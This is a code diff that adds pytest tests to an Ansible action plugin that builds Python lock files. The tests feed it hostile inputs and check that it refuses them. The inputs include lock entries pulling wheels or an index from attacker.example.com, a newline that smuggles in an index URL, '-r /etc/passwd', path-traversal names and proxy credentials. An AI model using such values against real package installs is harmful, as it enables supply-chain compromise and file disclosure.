@@ -11,7 +11,7 @@ import pytest
 from ansible_collections.neuronops.vllm.plugins.action import python_lock as action
 
 NEURON = "https://neuron.example.com"
-LOCK = "# head\nidna==3.10 \\\n    --hash=sha256:aa\n"
+LOCK = "# head\nidna==3.10 \\\n    --hash=sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"
 
 
 def arguments(path: Path, **others: Any) -> dict[str, Any]:
@@ -54,6 +54,7 @@ class Host(action.ActionModule):  # type: ignore[misc]  # ansible has no types
 
     def __init__(self, resolutions: list[str], answer: dict[str, Any], check_mode: bool = False, **args: Any) -> None:
         self.resolutions, self.answer = resolutions, answer
+        args = {"resolver": "host", **args}
         self._task = type("Task", (), {"args": args, "check_mode": check_mode, "diff": True, "async_val": 0})()
         self._connection = None
 
@@ -67,6 +68,7 @@ class Host(action.ActionModule):  # type: ignore[misc]  # ansible has no types
 def run_hosts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
     """Run the action on four hosts at the same time; returns their results and the resolutions."""
     monkeypatch.setattr(action.ActionBase, "run", lambda self, tmp=None, task_vars=None: {})
+    monkeypatch.setattr(action.task_environment, "variables", lambda _action: {})
     monkeypatch.setattr(action.constants, "DEFAULT_LOCAL_TMP", str(tmp_path))
 
     def run(answer: dict[str, Any], **others: Any) -> tuple[list[dict[str, Any]], list[str]]:
@@ -119,3 +121,118 @@ def test_a_check_run_resolves_nothing(run_hosts: Any, tmp_path: Path) -> None:
     assert resolutions == []
     assert all(result["changed"] and result["lock"] == "" for result in results)
     assert not (tmp_path / "locks").exists()
+
+
+def test_an_answer_that_is_no_lock_is_written_nowhere(run_hosts: Any, tmp_path: Path) -> None:
+    evil = f"evil @ http://attacker.example.com/evil.whl --hash=sha256:{'a' * 64}\n"
+    for answer in (LOCK + evil, LOCK + "--index-url http://attacker.example.com/simple\n", "", 3):
+        results, _resolutions = run_hosts({"lock": answer})
+        assert all(result["failed"] for result in results)
+    assert not list((tmp_path / "locks").glob("*.txt"))
+
+
+@pytest.mark.parametrize("other", [{"requirements": ["idna==3.9"]}, {"excluded": ["idna"]}])
+def test_an_answer_without_what_was_asked_for_is_refused(run_hosts: Any, other: dict[str, Any]) -> None:
+    results, _resolutions = run_hosts({"lock": LOCK}, **other)
+    assert all("is no lock that can be used" in result["msg"] for result in results)
+
+
+def test_a_lock_that_was_edited_is_refused_or_understood(run_hosts: Any, tmp_path: Path) -> None:
+    run_hosts({"lock": LOCK})
+    (file,) = (tmp_path / "locks").glob("*.txt")
+    whole = file.read_text()
+    assert "# It was resolved on host host" in whole
+    for edited in (whole + "-e .\n", whole.replace("==", "[x]=="), whole + "\x0c", whole[:-1] + "\r\n"):
+        file.write_bytes(edited.encode())
+        results, resolutions = run_hosts({"lock": LOCK})
+        assert all(result["failed"] and str(file) in result["msg"] for result in results), edited
+        assert resolutions == []
+    file.write_text("# mine\n" + whole.replace(" \\\n   ", ""))
+    results, _resolutions = run_hosts({"lock": LOCK})
+    assert results[0]["lock"] == "# mine\n" + whole, "what is installed is what was understood"
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        {"name": "../../elsewhere/x"},
+        {"name": "a/b"},
+        {"python_version": "3.11/../x"},
+        {"architecture": "x86_64/../../x"},
+        {"requirements": ["idna @ http://attacker.example.com/x.whl"]},
+        {"requirements": ["idna\n--index-url http://attacker.example.com"]},
+        {"constraints": ["-r /etc/passwd"]},
+        {"excluded": ["a\nb"]},
+        {"refresh": "perhaps"},
+    ],
+)
+def test_what_has_not_its_form_is_refused_before_a_path_is_made(
+    run_hosts: Any, tmp_path: Path, other: dict[str, Any]
+) -> None:
+    results, resolutions = run_hosts({"lock": LOCK}, **other)
+    assert all(result["failed"] for result in results)
+    assert resolutions == []
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_false_as_text_is_false(run_hosts: Any) -> None:
+    run_hosts({"lock": LOCK}, refresh="false")
+    (_results, resolutions) = run_hosts({"lock": LOCK}, refresh="no")
+    assert resolutions == []
+
+
+@pytest.mark.parametrize("check_mode", [False, True])
+def test_a_folder_that_cannot_be_written_to_is_named_before_any_work(
+    run_hosts: Any, tmp_path: Path, check_mode: bool
+) -> None:
+    (tmp_path / "locks").write_text("a file")
+    results, resolutions = run_hosts({"lock": LOCK}, check_mode=check_mode)
+    assert all("neuron_venv_lock_path" in result["msg"] for result in results)
+    assert resolutions == []
+
+
+def test_the_controller_resolves_and_says_so(run_hosts: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    asked: list[Any] = []
+
+    def resolve(arguments: dict[str, Any], uv: str, python: str, elsewhere: bool) -> str:
+        asked.append((arguments["requirements"], uv, elsewhere))
+        return LOCK.replace("# head\n", "")
+
+    monkeypatch.setattr(action, "on_controller", lambda *_arguments: "/tools/uv")
+    monkeypatch.setattr(action, "resolve", resolve)
+    results, resolutions = run_hosts({"lock": "never asked"}, resolver="controller")
+    assert (asked, resolutions) == ([(["idna"], "/tools/uv", True)], [])
+    assert {result["lock"] for result in results} == {next((tmp_path / "locks").glob("*.txt")).read_text()}
+    assert "# It was resolved on the controller.\n" in results[0]["lock"]
+
+
+def test_a_folder_on_the_hosts_is_not_the_controllers(run_hosts: Any, tmp_path: Path) -> None:
+    for wheelhouse in ("/srv/wheels", "file:///srv/wheels"):
+        results, _resolutions = run_hosts({"lock": LOCK}, resolver="controller", sources={"wheelhouse": wheelhouse})
+        assert all("neuron_venv_lock_resolver" in result["msg"] for result in results)
+    assert not (tmp_path / "locks").exists()
+    run_hosts({"lock": LOCK}, sources={"wheelhouse": "/srv/wheels"})
+    results, _resolutions = run_hosts({}, resolver="controller", sources={"wheelhouse": "/srv/wheels"})
+    assert results[0]["packages"] == {"idna": "3.10"}, "a lock that is there needs nobody to resolve"
+
+
+@pytest.mark.parametrize(
+    ("environment", "refused"),
+    [
+        ({"HTTPS_PROXY": "http://user:PROXYSECRET@proxy:3128"}, True),
+        ({"PIP_EXTRA_INDEX_URL": "https://a.example.com https://token@b.example.com"}, True),
+        ({"http_proxy": "user:PROXYSECRET@proxy:3128"}, True),
+        ({"UV_INDEX_OWN_PASSWORD": "PROXYSECRET"}, True),
+        ({"HTTPS_PROXY": "http://proxy:3128", "NO_PROXY": "a@b"}, False),
+    ],
+)
+def test_a_password_in_the_tasks_environment_is_refused_before_anything_starts(
+    run_hosts: Any, monkeypatch: pytest.MonkeyPatch, environment: dict[str, str], refused: bool
+) -> None:
+    monkeypatch.setattr(action.task_environment, "variables", lambda _action: environment)
+    results, resolutions = run_hosts({"lock": LOCK})
+    assert all(bool(result.get("failed")) is refused for result in results)
+    assert bool(resolutions) is not refused
+    assert "PROXYSECRET" not in str(results)
+    if refused:
+        assert "/etc/pip.conf" in results[0]["msg"]
